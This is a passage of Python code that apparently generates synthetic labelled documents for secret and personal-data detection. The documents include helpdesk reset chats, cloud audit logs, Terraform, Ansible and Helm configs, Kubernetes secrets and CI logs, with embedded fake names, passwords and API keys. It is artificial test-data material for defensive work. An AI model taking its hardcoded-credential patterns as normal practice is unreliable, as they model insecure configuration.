            b("displayName: ", PER(pname(rng, p, ("full", "lf"))), "\n")
            b("mail: ", EML(email(rng, p, dom)), "\n")
            b("telephoneNumber: ", PHN(phone(rng)), "\n")
            if chance(rng, 0.6):
                b("mobile: ", PHN(phone(rng, "en", True)), "\n")
            b("streetAddress: ", ADR(a.street), "\nl: ", LOC(a.city), "\nst: ", LOC(a.region), f"\npostalCode: {a.postal}\nc: US\n")
            b(f"sAMAccountName: {username(rng, p)}\nuserAccountControl: {rng.choice([512, 514, 66048])}\n")
            b(f"whenCreated: {rdt(rng, 2016, 2024).strftime('%Y%m%d%H%M%S')}.0Z\n")
            b(f"objectGUID:: {base64.b64encode(rbytes(rng, 16)).decode()}\n")
            if chance(rng, 0.3):
                b(f"userPassword:: {base64.b64encode(('{SSHA}' + base64.b64encode(rbytes(rng, 24)).decode()).encode()).decode()}\n")
            b("\n")
    else:
        b("Username,First name,Last name,Primary email,Secondary email,Mobile phone,City,State,Status,Created,Last login\n")
        for p in people:
            e = email(rng, p, dom)
            cty = rng.choice(US_CITIES)
            cells = [L(e, "EMAIL_ADDRESS"), PER(p.first), PER(p.last), EML(e), EML(email(rng, p)) if chance(rng, 0.5) else "",
                     PHN(phone(rng, "en", True)) if chance(rng, 0.8) else "", LOC(cty[0]),
                     LOC(cty[1]), rng.choice(["ACTIVE", "SUSPENDED", "PROVISIONED"]),
                     ts_iso(rdt(rng, 2018, 2024), ms=False), ts_iso(rdt(rng), ms=True)]
            csv_row(b, cells)
    return b


CHAT = {
    "en": dict(hello="Hello, IT Service Desk, this is {a}. How can I help?", issue=["Hi, I'm locked out of my laptop after the password change.",
               "I forgot my password and the self-service reset isn't working.", "My account says expired, I can't log in to VPN."],
               verify="I can help with that. For verification, can you confirm your employee ID and date of birth?",
               dob="Sure, employee ID {e}, born {d}.", more="Thanks. And the mobile number on file?",
               tmp="Thank you. I've set a temporary password: {p} - you'll be asked to change it at first login.",
               mfa="I also re-sent the MFA enrolment to {m}.", ok="Got it, that worked. Thanks!", bye="You're welcome. Ticket {t} will be closed automatically.",
               agent="Agent", user="User", hdr="Chat transcript"),
    "de": dict(hello="Guten Tag, IT-Servicedesk, mein Name ist {a}. Wie kann ich helfen?", issue=["Hallo, ich bin nach der Passwortänderung aus meinem Laptop ausgesperrt.",
               "Ich habe mein Kennwort vergessen und das Self-Service-Portal funktioniert nicht."],
               verify="Gerne. Zur Verifizierung: bitte Personalnummer und Geburtsdatum.", dob="Personalnummer {e}, geboren am {d}.",
               more="Danke. Und die hinterlegte Mobilnummer?", tmp="Vielen Dank. Ihr Initialpasswort lautet {p} - bitte bei der ersten Anmeldung ändern.",
               mfa="Die MFA-Registrierung habe ich erneut an {m} geschickt.", ok="Hat geklappt, danke!", bye="Gern geschehen. Ticket {t} wird automatisch geschlossen.",
               agent="Servicedesk", user="Anwender", hdr="Chatprotokoll"),
    "fr": dict(hello="Bonjour, support informatique, {a} à votre écoute.", issue=["Bonjour, mon compte est verrouillé depuis ce matin.",
               "J'ai oublié mon mot de passe et la réinitialisation en ligne ne marche pas."],
               verify="Je m'en occupe. Pour vérifier votre identité, pouvez-vous me donner votre matricule et votre date de naissance ?",
               dob="Matricule {e}, date de naissance {d}.", more="Merci. Et le numéro de portable enregistré ?",
               tmp="Parfait. Votre mot de passe provisoire est {p} ; il faudra le changer à la première connexion.",
               mfa="J'ai renvoyé l'enrôlement MFA au {m}.", ok="C'est bon, merci beaucoup !", bye="Avec plaisir. Le ticket {t} sera clôturé automatiquement.",
               agent="Support", user="Utilisateur", hdr="Transcription du chat"),
    "es": dict(hello="Hola, soporte de TI, le atiende {a}. ¿En qué puedo ayudarle?", issue=["Hola, mi cuenta está bloqueada desde esta mañana.",
               "Olvidé mi contraseña y el autoservicio no funciona."],
               verify="Con gusto. Para verificar su identidad, ¿me confirma su número de empleado y fecha de nacimiento?",
               dob="Número de empleado {e}, nací el {d}.", more="Gracias. ¿Y el móvil registrado?",
               tmp="Perfecto. Su contraseña temporal es {p}. Deberá cambiarla al iniciar sesión.",
               mfa="He reenviado el registro MFA al {m}.", ok="¡Funcionó, gracias!", bye="De nada. El ticket {t} se cerrará automáticamente.",
               agent="Agente", user="Usuario", hdr="Transcripción del chat"),
    "it": dict(hello="Buongiorno, helpdesk IT, sono {a}. Come posso aiutarla?", issue=["Buongiorno, il mio account è bloccato da stamattina.",
               "Ho dimenticato la password e il reset self-service non funziona."],
               verify="Certo. Per la verifica mi conferma matricola e data di nascita?", dob="Matricola {e}, data di nascita {d}.",
               more="Grazie. E il numero di cellulare registrato?", tmp="Perfetto. La password temporanea è {p}; le verrà chiesto di cambiarla al primo accesso.",
               mfa="Ho inviato di nuovo la registrazione MFA al {m}.", ok="Funziona, grazie!", bye="Prego. Il ticket {t} verrà chiuso automaticamente.",
               agent="Operatore", user="Utente", hdr="Trascrizione chat"),
    "pt": dict(hello="Olá, suporte de TI, aqui é {a}. Como posso ajudar?", issue=["Oi, minha conta está bloqueada desde cedo.",
               "Esqueci minha senha e o autoatendimento não funciona."],
               verify="Claro. Para validar, pode confirmar sua matrícula e data de nascimento?", dob="Matrícula {e}, nasci em {d}.",
               more="Obrigado. E o celular cadastrado?", tmp="Pronto. Sua senha temporária é {p}; troque no primeiro acesso.",
               mfa="Reenviei o cadastro do MFA para {m}.", ok="Deu certo, valeu!", bye="Por nada. O chamado {t} será encerrado automaticamente.",
               agent="Atendente", user="Usuário", hdr="Transcrição do chat"),
    "nl": dict(hello="Goedemorgen, IT-servicedesk, u spreekt met {a}. Waarmee kan ik helpen?", issue=["Hoi, mijn account is sinds vanochtend geblokkeerd.",
               "Ik ben mijn wachtwoord vergeten en de selfservice werkt niet."],
               verify="Dat los ik op. Ter verificatie: wat is uw personeelsnummer en geboortedatum?", dob="Personeelsnummer {e}, geboren op {d}.",
               more="Dank u. En het mobiele nummer dat bij ons bekend is?", tmp="Prima. Uw tijdelijke wachtwoord is {p}; wijzig het bij de eerste keer inloggen.",
               mfa="De MFA-registratie is opnieuw verstuurd naar {m}.", ok="Het werkt, bedankt!", bye="Graag gedaan. Ticket {t} wordt automatisch gesloten.",
               agent="Servicedesk", user="Medewerker", hdr="Chatgesprek"),
}


def _tmpl(b, s, **kw):
    """Append template s where {x} placeholders map to builder parts."""
    pos = 0
    for m in re.finditer(r"\{(\w+)\}", s):
        b(s[pos:m.start()])
        v = kw[m.group(1)]
        if isinstance(v, (list, tuple)):
            b(*v)
        else:
            b(v)
        pos = m.end()
    b(s[pos:])


def k_reset_chat(rng, lang="en"):
    b = B()
    loc = lang
    c = CHAT[lang]
    ag, us = person(rng, loc), person(rng, loc)
    t = rdt(rng)
    tk = ticket(rng, rng.choice(["snow", "req"]))
    b(f"{c['hdr']} - {tk} - {ts_plain(t)}\n\n")
    style = rng.choice(["bracket", "name", "plain"])
    agent_fmt = rng.choice(["role_name", "name", "role"])
    uname_ = rng.choice([pname(rng, us, ("full", "first")), None])

    def pre(who):
        nonlocal t
        t = tick(rng, t, 5, 90)
        if style == "bracket":
            b(f"[{t.strftime('%H:%M:%S')}] ")
        elif style == "plain":
            b(t.strftime("%H:%M") + " ")
        if who == "a":
            if agent_fmt == "role_name":
                b(c["agent"], " (", PER(ag.first), "): ")
            elif agent_fmt == "name":
                b(PER(ag.full), ": ")
            else:
                b(c["agent"], ": ")
        else:
            if uname_:
                b(PER(uname_), ": ")
            else:
                b(c["user"], ": ")

    pre("a")
    _tmpl(b, c["hello"], a=PER(ag.first))
    b("\n")
    pre("u")
    b(rng.choice(c["issue"]), "\n")
    pre("a")
    b(c["verify"], "\n")
    d = rdob(rng)
    pre("u")
    _tmpl(b, c["dob"], e=f"{rng.choice(['E', 'P', ''])}{dg(rng, 6)}", d=DOB(fdate(rng, d, loc, False)))
    b("\n")
    m = phone(rng, loc, True)
    if chance(rng, 0.6):
        pre("a")
        b(c["more"], "\n")
        pre("u")
        b(PHN(m), "\n")
    pw = password(rng, rng.choice(["temp", "random", "season"]))
    pre("a")
    _tmpl(b, c["tmp"], p=PWD(pw))
    b("\n")
    if chance(rng, 0.5):
        pre("a")
        _tmpl(b, c["mfa"], m=PHN(m))
        b("\n")
    pre("u")
    b(c["ok"], "\n")
    pre("a")
    _tmpl(b, c["bye"], t=tk)
    b("\n")
    return b


def k_oncall_handover(rng):
    b = B()
    co, dom = company(rng)
    out, inc, esc, bk = person(rng), person(rng), person(rng), person(rng)
    t0 = rdt(rng)
    team = rng.choice(["Platform SRE", "NetOps", "SecOps", "Database Reliability", "Corporate IT"])
    b(f"On-call handover - {team} - week {t0.isocalendar()[1]}\n")
    b("Outgoing: ", PER(out.full), "  ->  Incoming: ", PER(inc.full), "\n")
    b("Escalation: ", PER(esc.full), " (", PHN(phone(rng, "en", True)), "), backup ", PER(pname(rng, bk, ("full", "first"))),
      " (", PHN(phone(rng)), ")\n\n")
    b("Open items\n----------\n")
    items = []
    h = hostname(rng, rng.choice(["srv", "db"]))
    items.append(S(ticket(rng, "jira"), f" - disk pressure on {h} (", IPA(ip_priv(rng)), f"), /var at {rng.randint(85, 99)}%, logrotate fix pending review."))
    items.append(S(f"TLS cert for api.{dom} expires ", DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(2, 20))).date())),
                   "; renewal blocked on DNS validation."))
    v = person(rng)
    items.append(S("Vendor call with ", rng.choice(["Cisco TAC", "Palo Alto support", "our ISP", "Datadog"]), " ", DTM(fdt(rng, future_dt(rng, t0, (0, 3)), "en")),
                   ", bridge ", PHN(phone(rng, "tollfree")), " passcode ", PWD(password(rng, "passcode")), ", contact ", PER(v.full), "."))
    items.append(S("Customer escalation from ", LOC(city_of(rng)), " branch: intermittent packet loss on the MPLS link (circuit ",
                   f"{rs(rng, 2, UPPER)}/{dg(rng, 6)}", "), carrier ticket ", ticket(rng, "case"), "."))
    items.append(S("Maintenance window ", DTM(fdt(rng, future_dt(rng, t0, (1, 10), hours=[0, 1, 2, 22, 23]), "en", weekday=True)),
                   f" for the {rng.choice(['core switch', 'Postgres', 'Kubernetes'])} upgrade to {version(rng)}."))
    items.append(S("Blocked ", IPA(ip_pub(rng)), " at the WAF after ", str(rng.randint(2, 90)), "k requests/min; remove block after ", duration(rng), "."))
    rng.shuffle(items)
    for i, it in enumerate(items[:rng.randint(3, 6)]):
        b(f"{i + 1}. ", it, "\n")
    b("\nShift log\n---------\n")
    t = t0
    for e in ["paged: HighErrorRate checkout-api, auto-resolved", "restarted stuck consumer on kafka-03", "acknowledged disk alert, see above",
              "quiet", "failover test on replica OK", "paged: BGP session down to transit B, recovered after 4 min"]:
        if chance(rng, 0.7):
            t = tick(rng, t, 1200, 10000)
            b(t.strftime(rng.choice(["%H:%M", "%a %H:%M"])), " ", e, "\n")
    if chance(rng, 0.5):
        b("\nPagerDuty schedule: ", URL(f"https://{dom.split('.')[0]}.pagerduty.com/schedules#{rs(rng, 7, UPPER + DIG)}"), "\n")
    return b


def k_mdm_inventory(rng):
    b = B()
    co, dom = company(rng)
    loc = rng.choice(["en", "en", "en", "uk"])
    delim = rng.choice([",", ","])
    b(f"# Intune device export {ts_iso(rdt(rng), ms=False)} - tenant {dom}\n") if chance(rng, 0.5) else None
    csv_row(b, ["Device name", "Primary user", "User email", "Phone number", "Manufacturer", "Model", "OS", "OS version", "Serial number",
                "IMEI", "Wi-Fi MAC", "Compliance", "Last check-in", "IP address"], delim)
    devs = [("Apple", "iPhone 14", "iOS", lambda: f"17.{rng.randint(0, 6)}.{rng.randint(0, 2)}", True),
            ("Apple", "iPhone 15 Pro", "iOS", lambda: f"18.{rng.randint(0, 3)}", True),
            ("Samsung", "Galaxy S23", "Android", lambda: str(rng.randint(13, 15)), True),
            ("Google", "Pixel 8", "Android", lambda: str(rng.randint(14, 15)), True),
            ("Dell", "Latitude 5440", "Windows", lambda: f"10.0.{rng.choice([19045, 22631, 26100])}.{rng.randint(1000, 4000)}", False),
            ("Lenovo", "ThinkPad T14 Gen 4", "Windows", lambda: f"10.0.{rng.choice([19045, 22631])}.{rng.randint(1000, 4000)}", False),
            ("HP", "EliteBook 840 G10", "Windows", lambda: f"10.0.22631.{rng.randint(1000, 4000)}", False),
            ("Apple", "MacBook Pro 14", "macOS", lambda: f"14.{rng.randint(0, 6)}", False)]
    for _ in range(rng.randint(4, 10)):
        p = person(rng)
        mfr, model, os_, osv, phone_dev = rng.choice(devs)
        csv_row(b, [(f"{p.rfirst}-{model.split()[0]}" if phone_dev else hostname(rng, "lap")),
                    PER(pname(rng, p, ("full", "full", "lf", "upper"))), EML(email(rng, p, dom)),
                    PHN(phone(rng, loc, True)) if phone_dev else "", mfr, model, os_, osv(), serial(rng),
                    imei(rng) if phone_dev else "", mac(rng), rng.choice(["Compliant", "Compliant", "Noncompliant", "In grace period"]),
                    ts_plain(rdt(rng)), IPA(ip_priv(rng)) if chance(rng, 0.8) else ""], delim)
    return b


def k_asset_register(rng):
    b = B()
    co, dom = company(rng)
    b(f"## {co} - IT asset register (extract)\n\n")
    cols = ["Asset tag", "Hostname", "IP", "Site", "Owner", "Model", "Serial", "MAC", "Warranty end"]
    b("| " + " | ".join(cols) + " |\n|" + "|".join("---" for _ in cols) + "|\n")
    for _ in range(rng.randint(4, 10)):
        p = person(rng)
        model = rng.choice(PERSON_BRANDS[:2] + ["Cisco Catalyst 9300", "Lenovo ThinkSystem SR650", "Synology RS1221+", "APC Smart-UPS 3000"])
        cells = [f"AT-{dg(rng, 5)}", hostname(rng), IPA(ip_priv(rng)),
                 LOC(rng.choice(US_CITIES)[0]) if chance(rng, 0.8) else rng.choice(["DC1", "Colo-2"]),
                 PER(pname(rng, p, ("full", "lf", "first"))) if chance(rng, 0.8) else "IT Pool", model, serial(rng), mac(rng),
                 DTM(fdate(rng, rdate(rng, 2024, 2028), style=rng.choice(["iso", "num", "short"])))]
        b("| ")
        for i, c in enumerate(cells):
            if i:
                b(" | ")
            b(c)
        b(" |\n")
    b(f"\nNotes: disposal of {rng.randint(2, 20)} units scheduled after the {rng.choice(['Q1', 'Q2', 'Q3', 'Q4'])} refresh; certificates of destruction ref {ticket(rng, 'req')}.\n")
    return b


def k_cloudtrail(rng):
    b = B()
    co, dom = company(rng)
    recs = []
    t = rdt(rng)
    acct_id = dg(rng, 12)
    for _ in range(rng.randint(1, 3)):
        t = tick(rng, t, 1, 600)
        p = person(rng)
        un = username(rng, p)
        ev = rng.choice(["CreateAccessKey", "ConsoleLogin", "PutBucketPolicy", "GetSecretValue", "AssumeRole", "CreateUser", "DeleteTrail"])
        r = {"eventVersion": "1.08",
             "userIdentity": {"type": "IAMUser", "principalId": "AIDA" + rs(rng, 17, B32), "arn": f"arn:aws:iam::{acct_id}:user/{un}",
                              "accountId": acct_id, "accessKeyId": AKY(aws_ak(rng, temp=chance(rng, 0.5))), "userName": un},
             "eventTime": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": "iam.amazonaws.com" if ev in ("CreateAccessKey", "CreateUser") else "s3.amazonaws.com",
             "eventName": ev, "awsRegion": rng.choice(CLOUD_REGIONS[:5]),
             "sourceIPAddress": IPA(ip_pub(rng)) if chance(rng, 0.85) else IPA(ip6(rng)),
             "userAgent": rng.choice(["aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22", "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux",
                                      "signin.amazonaws.com", "console.amazonaws.com", "Terraform/1.7.5 terraform-provider-aws/5.40.0"]),
             "requestParameters": {"userName": un} if ev in ("CreateAccessKey", "CreateUser") else {"bucketName": f"{rs(rng, 6, LOWER)}-prod-logs"},
             "responseElements": None, "requestID": _uuid(rng), "eventID": _uuid(rng), "readOnly": False,
             "eventType": "AwsApiCall", "recipientAccountId": acct_id}
        if ev == "CreateAccessKey":
            r["responseElements"] = {"accessKey": {"accessKeyId": AKY(aws_ak(rng)), "status": "Active", "userName": un,
                                                   "createDate": t.strftime("%b %d, %Y %I:%M:%S %p")}}
        if ev == "ConsoleLogin":
            r["additionalEventData"] = {"MFAUsed": rng.choice(["Yes", "No"]), "LoginTo": URL("https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true")}
        if ev == "GetSecretValue" and chance(rng, 0.5):
            r["responseElements"] = {"secretString": "HIDDEN_DUE_TO_SECURITY_REASONS"}
        recs.append(r)
    if chance(rng, 0.4):
        b(f"s3://{rs(rng, 6, LOWER)}-cloudtrail/AWSLogs/{acct_id}/CloudTrail/{rng.choice(CLOUD_REGIONS[:5])}/{acct_id}_CloudTrail_{hx(rng, 16)}.json.gz\n")
    J(b, {"Records": recs}, rng.choice([2, None]) if True else 2)
    b("\n")
    if chance(rng, 0.4):
        b("\nCase note: key owner ", PER(person(rng).full), " says the key was in a laptop backup; secret ", ASK(aws_sk(rng)),
          rng.choice([" was rotated.", " has been deactivated."]), "\n")
    return b


def k_gcp_azure_audit(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    e = email(rng, p, dom)
    t = rdt(rng)
    if chance(rng, 0.5):
        doc = {"protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "status": {},
                                "authenticationInfo": {"principalEmail": EML(e)},
                                "requestMetadata": {"callerIp": IPA(ip_pub(rng)) if chance(rng, 0.8) else IPA(ip6(rng)),
                                                    "callerSuppliedUserAgent": "google-cloud-sdk gcloud/468.0.0 command/gcloud.iam.service-accounts.keys.create"},
                                "serviceName": "iam.googleapis.com", "methodName": rng.choice(["google.iam.admin.v1.CreateServiceAccountKey", "SetIamPolicy", "storage.buckets.update"]),
                                "resourceName": f"projects/-/serviceAccounts/{dg(rng, 21)}"},
               "insertId": rs(rng, 12, LOWER + DIG), "resource": {"type": "service_account", "labels": {"project_id": f"{rs(rng, 5, LOWER)}-prod-{dg(rng, 6)}"}},
               "timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + dg(rng, 9) + "Z", "severity": "NOTICE",
               "logName": f"projects/{rs(rng, 5, LOWER)}-prod/logs/cloudaudit.googleapis.com%2Factivity", "receiveTimestamp": ts_iso(tick(rng, t, 0, 2))}
    else:
        doc = {"time": ts_iso(t), "resourceId": f"/SUBSCRIPTIONS/{_uuid(rng).upper()}/RESOURCEGROUPS/RG-PROD/PROVIDERS/MICROSOFT.KEYVAULT/VAULTS/KV-{rs(rng, 6, UPPER)}",
               "operationName": rng.choice(["MICROSOFT.KEYVAULT/VAULTS/SECRETS/READ", "MICROSOFT.AUTHORIZATION/ROLEASSIGNMENTS/WRITE"]),
               "category": "Administrative", "resultType": "Success", "callerIpAddress": IPA(ip_pub(rng)), "correlationId": _uuid(rng),
               "identity": {"claims": {"name": PER(p.full), "given_name": PER(p.first), "family_name": PER(p.last), "upn": EML(e),
                                       "ipaddr": IPA(ip_pub(rng)), "oid": _uuid(rng)}},
               "properties": {"requestbody": "{\"properties\":{\"roleDefinitionId\":\"/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635\"}}"}}
    J(b, doc, 2)
    b("\n")
    return b


def k_terraform(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    leak = chance(rng, 0.75)
    b(f"# {rng.choice(['main.tf', 'providers.tf', 'prod/main.tf'])} - {rng.choice(['DO NOT COMMIT', 'managed by platform team', 'generated by tfgen'])}\n")
    b('terraform {\n  required_version = ">= ', f"1.{rng.randint(3, 9)}.{rng.randint(0, 7)}", '"\n  backend "s3" {\n',
      f'    bucket = "{rs(rng, 6, LOWER)}-tfstate"\n    key    = "prod/terraform.tfstate"\n    region = "{rng.choice(CLOUD_REGIONS[:5])}"\n  }}\n}}\n\n')
    b('provider "aws" {\n', f'  region     = "{rng.choice(CLOUD_REGIONS[:5])}"\n')
    if leak and chance(rng, 0.7):
        b('  access_key = "', AKY(aws_ak(rng)), '"\n  secret_key = "', ASK(aws_sk(rng)), '"\n')
    else:
        b("  access_key = var.aws_access_key\n  secret_key = var.aws_secret_key\n")
    b("}\n\n")
    if chance(rng, 0.5):
        b('provider "github" {\n  owner = "', rs(rng, 6, LOWER), '-org"\n  token = ', *(['"', GHT(gh_tok(rng)), '"'] if leak else [rng.choice(['var.github_token', '"${var.github_token}"'])]), "\n}\n\n")
    b('resource "aws_db_instance" "main" {\n  identifier        = "', rs(rng, 5, LOWER), f'-prod"\n  engine            = "postgres"\n  engine_version    = "{rng.randint(13, 16)}.{rng.randint(1, 9)}"\n',
      f'  instance_class    = "db.r6g.{rng.choice(["large", "xlarge", "2xlarge"])}"\n  username          = "{rng.choice(["dbadmin", "postgres", "app_owner"])}"\n')
    if leak:
        b('  password          = "', PWD(password(rng)), '"\n')
    else:
        b("  password          = random_password.db.result\n")
    b("  skip_final_snapshot = false\n}\n\n")
    b('resource "aws_security_group_rule" "office_ssh" {\n  type        = "ingress"\n  from_port   = 22\n  to_port     = 22\n  protocol    = "tcp"\n  cidr_blocks = [')
    ips = [ip_pub(rng) for _ in range(rng.randint(1, 3))]
    for i, ip in enumerate(ips):
        if i:
            b(", ")
        b('"', IPA(ip), f'/{rng.choice([32, 32, 29, 28])}"')
    b("]\n  description = \"", rng.choice(["office egress", "VPN", "bastion"]), " - ", LOC(city_of(rng)) if chance(rng, 0.5) else "HQ", "\"\n}\n\n")
    if chance(rng, 0.6):
        lab, sec = generic_secret(rng, rng.choice(["datadog", "newrelic", "pagerduty", "sendgrid"]))
        b(f'variable "{lab.lower()}" {{\n  type      = string\n  sensitive = true\n  default   = ')
        if leak:
            b('"', GSC(sec), '"\n}\n\n')
        else:
            b('""\n}\n\n')
    b("locals {\n  common_tags = {\n", '    Owner       = "', EML(email(rng, p, dom)), '"\n',
      f'    CostCenter  = "{rng.randint(1000, 9999)}"\n    Environment = "prod"\n    Repo        = "', URL(f"https://github.com/{rs(rng, 6, LOWER)}-org/infra-live"), '"\n  }\n}\n')
    return b


def k_ansible(rng):
    b = B()
    co, dom = company(rng)
    if chance(rng, 0.5):
        b("# inventory/production.ini\n[webservers]\n")
        for i in range(rng.randint(2, 4)):
            b(f"web{i + 1:02d} ansible_host=", IPA(ip_priv(rng)), " ansible_user=deploy\n")
        b("\n[dbservers]\n")
        for i in range(rng.randint(1, 2)):
            b(f"db{i + 1:02d} ansible_host=", IPA(ip_priv(rng)), f" ansible_port={rng.choice([22, 2222])}\n")
        b("\n[windows]\n", f"{hostname(rng, 'srv')} ansible_host=", IPA(ip_priv(rng)), "\n\n[windows:vars]\nansible_user=Administrator\n")
        if chance(rng, 0.7):
            b("ansible_password=", PWD(password(rng)), "\n")
        else:
            b("ansible_password={{ vault_win_admin_password }}\n")
        b("ansible_connection=winrm\nansible_winrm_server_cert_validation=ignore\n\n[all:vars]\n")
        b("ntp_server=", IPA(ip_priv(rng)), "\nadmin_contact=", EML(email(rng, person(rng), dom)), "\n")
    else:
        b(f"---\n# roles/app/defaults/main.yml  (ansible-core {version(rng)})\n")
        b(f"app_version: \"{version(rng)}\"\napp_port: {rng.choice([8080, 8000, 3000])}\n")
        b("db_host: ", IPA(ip_priv(rng)), "\ndb_user: app\n")
        if chance(rng, 0.6):
            b("db_password: \"", PWD(password(rng)), "\"\n")
        else:
            b("db_password: \"{{ vault_db_password }}\"\n")
        b("smtp_relay: smtp.", dom, "\nsmtp_user: ", EML(f"noreply@{dom}"), "\n")
        if chance(rng, 0.5):
            b("smtp_password: !vault |\n          $ANSIBLE_VAULT;1.1;AES256\n")
            for _ in range(rng.randint(3, 5)):
                b("          ", hx(rng, 64), "\n")
        else:
            b("smtp_password: \"", PWD(password(rng)), "\"\n")
        if chance(rng, 0.5):
            b("slack_alert_token: \"", SLK(slack_tok(rng)), "\"\n")
        b("allowed_admin_ips:\n")
        for _ in range(rng.randint(1, 3)):
            b("  - ", IPA(ip_pub(rng)), "/32\n")
        b("maintainer: \"", PER(person(rng).full), " <", EML(email(rng, person(rng), dom)), ">\"\n")
    return b


def k_helm_values(rng):
    b = B()
    co, dom = company(rng)
    leak = chance(rng, 0.75)
    b(f"# values-prod.yaml for chart {rng.choice(['payments', 'keycloak', 'grafana', 'n8n', 'gitlab-runner'])}-{version(rng)}\n")
    b(f"replicaCount: {rng.randint(2, 6)}\nimage:\n  repository: registry.{dom}/platform/app\n  tag: \"{version(rng)}\"\n  digest: sha256:{sha256(rng)}\n\n")
    b("ingress:\n  enabled: true\n  hosts:\n    - host: app.", dom, "\n      paths: [\"/\"]\n  annotations:\n",
      "    nginx.ingress.kubernetes.io/whitelist-source-range: \"", IPA(ip_pub(rng)), "/32,", IPA(ip_pub(rng)), "/32\"\n\n")
    b("postgresql:\n  auth:\n    username: app\n    password: ")
    if leak:
        b('"', PWD(password(rng)), '"\n')
    else:
        b('"{{ .Values.global.dbPassword }}"\n')
    b("    existingSecret: \"\"\n\n")
    b("smtp:\n  host: smtp.sendgrid.net\n  user: apikey\n  password: ")
    if leak:
        b('"', GSC(generic_secret(rng, "sendgrid")[1]), '"\n')
    else:
        b("${SENDGRID_API_KEY}\n")
    if chance(rng, 0.6):
        b("\nslack:\n  botToken: ", *(['"', SLK(slack_tok(rng)), '"'] if leak else ["\"\""]), "\n  channel: \"#alerts-prod\"\n")
    if chance(rng, 0.5):
        b("\nstripe:\n  secretKey: ", *(['"', STK(stripe_key(rng)), '"'] if leak else [var_ref(rng, "STRIPE_SECRET_KEY")]), "\n")
    if chance(rng, 0.5):
        b("\noidc:\n  issuerUrl: ", URL(f"https://login.{dom}/realms/corp"), "\n  clientId: ", rs(rng, 8, LOWER), "-web\n  clientSecret: ",
          *(['"', GSC(rs(rng, 32)), '"'] if leak else ["\"\""]), "\n")
    b("\nresources:\n  limits:\n    cpu: \"", str(rng.choice([1, 2, 4])), "\"\n    memory: ", str(rng.choice([512, 1024, 2048])), "Mi\n")
    b("\n# maintainer: ", PER(person(rng).full), "\n")
    return b


def k_k8s_secret(rng):
    b = B()
    co, dom = company(rng)
    n = rng.randint(1, 2)
    for k in range(n):
        if k:
            b("---\n")
        name = rng.choice(["db-credentials", "app-secrets", "smtp-auth", "registry-creds", "api-keys"])
        b(f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: {name}\n  namespace: {rng.choice(['prod', 'payments', 'default', 'monitoring'])}\n",
          f"  uid: {_uuid(rng)}\n  resourceVersion: \"{rng.randint(100000, 9999999)}\"\n  creationTimestamp: \"{rdt(rng).strftime('%Y-%m-%dT%H:%M:%SZ')}\"\n",
          "  annotations:\n    kubectl.kubernetes.io/last-applied-configuration: \"\"\ntype: Opaque\ndata:\n")
        keys = rng.sample(["username", "password", "db-password", "api-key", "token", "webhook-secret", "client-secret", "redis-password", "host"], rng.randint(2, 4))
        for key in keys:
            if key == "username":
                raw, ty = rng.choice(["app", "postgres", "admin", "svc_app"]), None
            elif key == "host":
                raw, ty = f"{hostname(rng, 'db')}.{dom}", None
            elif "password" in key:
                raw, ty = password(rng), "PASSWORD"
            elif key == "api-key":
                raw, ty = generic_secret(rng)[1], "GENERIC_SECRET"
            else:
                raw, ty = rs(rng, 40, B64URL), "GENERIC_SECRET"
            enc = base64.b64encode(raw.encode()).decode()
            b(f"  {key}: ", L(enc, ty) if ty else enc, "\n")
    if chance(rng, 0.3):
        b("# applied by ", PER(person(rng).full), "\n")
    return b


def k_gha_log(rng):
    b = B()
    co, dom = company(rng)
    t = rdt(rng)
    org = rs(rng, 6, LOWER)

    def ln(*parts):
        nonlocal t
        t = tick(rng, t, 0, 6)
        b(t.strftime("%Y-%m-%dT%H:%M:%S.") + dg(rng, 7) + "Z ", *parts, "\n")

    ln("##[group]Run actions/checkout@v4")
    ln(f"with:\n  repository: {org}/{rng.choice(['api', 'web', 'infra', 'mobile'])}\n  token: ***")
    ln("##[endgroup]")
    ln(f"Syncing repository: {org}/api")
    ln(f"HEAD is now at {sha1(rng)[:7]} {rng.choice(['fix: retry on 429', 'chore(deps): bump axios', 'feat: add SSO callback', 'ci: cache pip'])}")
    ln("##[group]Run ./scripts/deploy.sh")
    ln("env:\n  AWS_ACCESS_KEY_ID: ***\n  AWS_SECRET_ACCESS_KEY: ***\n  DEPLOY_ENV: production")
    ln("##[endgroup]")
    leaks = rng.sample(["aws", "gh", "slack", "stripe", "pw", "generic", "jwt", "gh"], rng.randint(1, 3))
    leaks = list(dict.fromkeys(leaks))
    for lk in leaks:
        if lk == "aws":
            ln("+ echo \"debug: using key ", AKY(aws_ak(rng)), "\"")
            if chance(rng, 0.6):
                ln("+ export AWS_SECRET_ACCESS_KEY=", ASK(aws_sk(rng)))
        elif lk == "gh":
            ln("+ gh auth status  # token from ", "${{ secrets.GH_PAT }}")
            ln("+ echo GH_TOKEN=", GHT(gh_tok(rng)), " >> .env")
        elif lk == "slack":
            ln("+ curl -s -H 'Authorization: Bearer ", SLK(slack_tok(rng)), "' ", URL("https://slack.com/api/chat.postMessage"), " -d channel=C0", rs(rng, 8, UPPER + DIG))
        elif lk == "stripe":
            ln("STRIPE_SECRET_KEY=", STK(stripe_key(rng)), " npm run migrate:billing")
        elif lk == "pw":
            ln("+ mysql -h ", IPA(ip_priv(rng)), " -u deploy -p", PWD(password(rng, "dsn")), " -e 'SELECT 1'")
        elif lk == "generic":
            lab, sec = generic_secret(rng)
            ln(f"{lab}=", GSC(sec))
        else:
            ln("Authorization: Bearer ", JWT(jwt(rng)))
    ln("Warning: secrets printed above were not masked because they were not registered as secrets")
    ln(f"Deploying {version(rng)} to production ({rng.randint(3, 40)} pods)")
    ln(f"Deployment finished in {duration(rng)}")
    ln("Notifying ", EML(f"releases@{dom}"))
    ln("##[group]Post job cleanup.")
    ln("Referencing ", "${{ secrets.NPM_TOKEN }}", " (masked)")
    ln("##[endgroup]")
    ln("Cleaning up orphan processes")
    return b


def k_jenkins_log(rng):
    b = B()
    co, dom = company(rng)
